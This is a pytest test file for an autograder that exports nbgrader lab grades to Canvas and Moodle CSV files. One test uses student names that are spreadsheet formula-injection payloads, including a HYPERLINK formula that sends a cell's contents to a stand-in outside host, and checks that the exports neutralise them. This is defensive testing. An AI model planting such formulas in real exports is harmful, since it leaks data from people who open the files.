"""Points for other systems, read back by the rules of their importers (named in autograder/exports.py)."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import pytest
from classes import ROSTER, SMALL, allranks
from grading_course import LAB, Course
from nbgrader.api import MissingEntry

from autograder.classroom import Mark, Overview, Part, Row, overview
from autograder.exports import Exercises, ExportError, Wanted, canvas, moodle

pytestmark = pytest.mark.notebooks
TITLES = [f"{LAB}: {name}" for name in ("distributed_mean", "distributed_argmax", "ring_all_reduce", "when_not_a_ring")]


@pytest.fixture(scope="module")
def found(small_class) -> Overview:
    return overview(small_class.course.root, LAB)


def read(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def as_canvas_reads(lines: list[list[str]]) -> tuple[dict[str, float], dict[str, dict[str, str]]]:
    """Points possible by assignment, and grades by SIS Login ID: the steps of Canvas's gradebook_importer.rb."""
    head, rest = lines[0], lines[1:]
    assert len(head) > 3 and "Student" in head[0] and "ID" in head[1]
    columns = 3
    if re.search(r"SIS\s+User\s+ID", head[2]) and re.search(r"SIS\s+Login\s+ID", head[3]):
        columns += 2 + ("Integration ID" in head[4])
    assert "Section" in head[columns - 1], "else Canvas says: invalid header row"
    possible, grades = {}, {}
    for line in rest:
        assert len(line) == len(head)
        marks = dict(zip(head[columns:], line[columns:], strict=True))
        if "Points Possible" in line[0]:
            possible = {title: float(points) for title, points in marks.items()}
        else:
            grades[line[3]] = marks
    return possible, grades


def points(course: Course, student: str) -> list[float | None]:
    """The gradebook's own."""
    scores = course.scores(student)
    return [scores[f"{name}-graded"] for name in ("distributed_mean", "distributed_argmax", "ring_all_reduce")] + [None]


def test_canvas_reads_each_exercise(small_class, tmp_path):
    done = allranks(small_class.course, "export", "canvas", "-o", str(tmp_path / "grades.csv"))
    assert done.returncode == 0 and "7 answers to when_not_a_ring are not marked yet" in done.stderr
    assert (tmp_path / "grades.csv").stat().st_mode & 0o077 == 0, "marks are the teacher's to read"
    possible, grades = as_canvas_reads(read(tmp_path / "grades.csv"))
    assert possible == dict(zip(TITLES, [3, 4, 6, 2], strict=True))
    assert set(grades) == {*SMALL, *ROSTER}
    for student in SMALL:
        told = [float(grades[student][title]) if grades[student][title] else None for title in TITLES]
        assert told == points(small_class.course, student)
    assert set(grades["hal"].values()) == {""}, "who handed in nothing has no mark, not 0"


def test_canvas_keeps_its_own_students_and_columns(found, tmp_path):
    roster = tmp_path / "from_canvas.csv"
    roster.write_text(
        "Student,ID,SIS User ID,SIS Login ID,Integration ID,Section,Homework (7),"
        f"{TITLES[2]} (4711),Current Score\n"
        '    Points Possible,,,,,,10,6,(read only)\n"Lovelace, Ada",101,u1,ada@example.org,,"A, B",3,,50\n'
        '"Li, Bo",102,bo,,,A,,,\n"Nobody, Of Ours",199,u9,nobody,,A,,,\n"Student, Test",200,,x,,A,,,\n',
        encoding="utf-8",
    )
    with open(tmp_path / "out.csv", "w", encoding="utf-8", newline="") as file:
        count, told = canvas(found, file, roster)
    assert count == 2
    lines = read(tmp_path / "out.csv")
    _, grades = as_canvas_reads(lines)
    assert lines[0][:6] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Integration ID", "Section"]
    assert lines[0][6:] == [TITLES[0], TITLES[1], f"{TITLES[2]} (4711)", TITLES[3]]
    assert [line[:6] for line in lines[2:]] == [
        ["Lovelace, Ada", "101", "u1", "ada@example.org", "", "A, B"],
        ["Li, Bo", "102", "bo", "", "", "A"],
    ]
    assert grades["ada@example.org"][f"{TITLES[2]} (4711)"] == "6"
    assert "Nobody, Of Ours of from_canvas.csv is not in the gradebook." in told
    assert "gus is not in from_canvas.csv." in told and not any("Student, Test" in line for line in told)


def test_no_spreadsheet_takes_a_students_name_for_a_formula(tmp_path):
    """In whatever file a teacher opens: on some platforms students choose their names, and the roster brings them here."""
    names = ('=HYPERLINK("https://example.org/?"&A1)', " @SUM(1)", "+1@example.org")
    part = Part("mean", "mean-graded", "n", 2.0, False)
    row = Row("bo", *names, "graded", 2.0, marks={"mean-graded": Mark(2.0)})
    class_ = Overview(LAB, None, (part,), (row,))
    roster = tmp_path / "from_canvas.csv"
    with open(roster, "w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["Student", "ID", "SIS Login ID", "Section"], [names[0], "7", "bo", "A"]])
    made = [io.StringIO() for _ in range(3)]
    canvas(class_, made[0], None)
    canvas(class_, made[1], roster)
    moodle(class_, made[2])

    def nobody(*_: str) -> None:
        raise MissingEntry

    student = SimpleNamespace(id="bo", first_name=names[0], last_name=names[1], email=names[2])
    lab = SimpleNamespace(name=LAB, duedate=None, max_score=2.0)
    about = Exercises()._about(SimpleNamespace(find_submission=nobody), lab, student)
    cells = [cell for file in made for line in csv.reader(io.StringIO(file.getvalue())) for cell in line]
    cells += map(str, about.values())
    assert sum(names[0] in cell for cell in cells) == 4 and "2" in cells
    assert not [cell for cell in cells if cell.strip().startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("text", ["", "name,points\nada,3\n", "Student,ID,Section\nGrace,1,A\n"])
def test_a_roster_that_is_none_is_refused(found, tmp_path, text):
    roster = tmp_path / "roster.csv"
    roster.write_text(text, encoding="utf-8")
    with pytest.raises(ExportError), open(tmp_path / "out.csv", "w", encoding="utf-8") as file:
        canvas(found, file, roster)


def test_moodle_reads_each_exercise_and_tells_equal_names_apart(small_class, tmp_path):
    path = tmp_path / "grades.csv"
    assert allranks(small_class.course, "export", "moodle", "-o", str(path)).returncode == 0
    head, *rows = read(path)
    assert head == ["Username", "ID number", "First name", "Last name", "Email address", *TITLES]
    by_name = {row[0]: dict(zip(head, row, strict=True)) for row in rows}
    assert len(by_name) == len(rows)
    assert by_name["ada"]["Last name"] == "Lovelace, Countess", "a comma in a name"
    assert by_name["di"]["Last name"] == '"D" =1+1'
    assert {by_name[who]["Email address"] for who in ("bo", "cy")} == {"bo@example.org", "cy@example.org"}
    for student in SMALL:
        told = [float(by_name[student][title]) if by_name[student][title] else None for title in TITLES]
        assert told == points(small_class.course, student)


def test_a_sum_waits_for_the_last_answer(small_class, tmp_path):
    path = tmp_path / "sum.csv"
    done = allranks(small_class.course, "export", "moodle", "--sum", "-o", str(path))
    assert done.returncode == 0 and "not marked yet: these students have no sum yet" in done.stderr
    head, *rows = read(path)
    assert head[-1] == LAB and {row[-1] for row in rows} == {""}, "nobody gets a 0 for what was not read"


def all_read(found: Overview) -> Overview:
    """The class when each answer in words has 1.5 points, and Ada was late."""
    cell = found.parts[-1].cell
    rows = []
    for row in found.rows:
        if row.score is None:
            rows.append(row)
            continue
        marks = {**row.marks, cell: replace(row.marks[cell], score=1.5)}
        rows.append(replace(row, marks=marks, score=row.score + 1.5, late_penalty=2.0 * (row.student == "ada")))
    return replace(found, rows=rows)


def test_the_sum_is_less_the_penalty(found):
    done = all_read(found)
    told = {row.student: Wanted(as_sum=True).points_of(done, row) for row in done.rows}
    for row in done.graded:
        assert told[row.student] == [f"{max(0, row.score - row.late_penalty):g}"]
    assert told["ada"] == ["12.5"] and told["hal"] == [""]


def test_who_handed_in_nothing_gets_zero_by_choice_only(found):
    (missing,) = (row for row in found.rows if row.student == "hal")
    assert Wanted().points_of(found, missing) == [""] * 4
    assert Wanted(zero_missing=True).points_of(found, missing) == ["0"] * 4
    assert Wanted(as_sum=True, zero_missing=True).points_of(found, missing) == ["0"]
    (unread,) = (row for row in found.rows if row.student == "ada")
    assert Wanted(zero_missing=True).points_of(found, unread)[-1] == "", "what waits to be read is not missing"


def test_a_column_that_canvas_has_is_chosen(small_class, tmp_path):
    """And the number of students is that of the file's rows."""
    roster = tmp_path / "roster.csv"
    roster.write_text('Student,ID,SIS Login ID,Section,Homework (7)\n"Lovelace, Ada",101,ada,A,\n', encoding="utf-8")
    options = ["--roster", str(roster), "-o", str(tmp_path / "out.csv"), "--sum", "--column"]
    done = allranks(small_class.course, "export", "canvas", *options, "Homework")
    assert done.returncode == 0 and done.stdout.endswith("out.csv: 1 student.\n"), done.stdout + done.stderr
    assert read(tmp_path / "out.csv")[0] == ["Student", "ID", "SIS Login ID", "Section", "Homework (7)"]
    done = allranks(small_class.course, "export", "canvas", *options, "Homwork")
    assert done.returncode == 2 and "has no column 'Homwork'. It has: Homework." in done.stderr


def test_a_file_that_can_not_be_written_leaves_the_old_one(small_class, tmp_path):
    done = allranks(small_class.course, "export", "moodle", "-o", str(tmp_path / "no" / "grades.csv"))
    assert done.returncode == 2 and done.stderr.count("\n") == 1
    old = tmp_path / "grades.csv"
    old.write_text("old", encoding="utf-8")
    done = allranks(small_class.course, "export", "canvas", "-o", str(old), "--roster", str(old))
    assert done.returncode == 2 and old.read_text(encoding="utf-8") == "old"
    assert [path.name for path in tmp_path.iterdir()] == ["grades.csv"]


def test_nbgraders_own_export_has_the_exercises(small_class, tmp_path):
    path = tmp_path / "all.csv"
    said = small_class.course.nbgrader("export", "--to", str(path))
    assert said.returncode == 0, said.stdout
    with open(path, encoding="utf-8", newline="") as file:
        rows = {row["student_id"]: row for row in csv.DictReader(file)}
    assert rows["ada"]["last_name"] == "Lovelace, Countess" and rows["ada"]["score"] == "13.0"
    assert [rows["ed"][title] for title in TITLES] == ["3", "4", "0", ""]
    assert rows["hal"]["score"] == "0.0" and rows["hal"][TITLES[0]] == ""
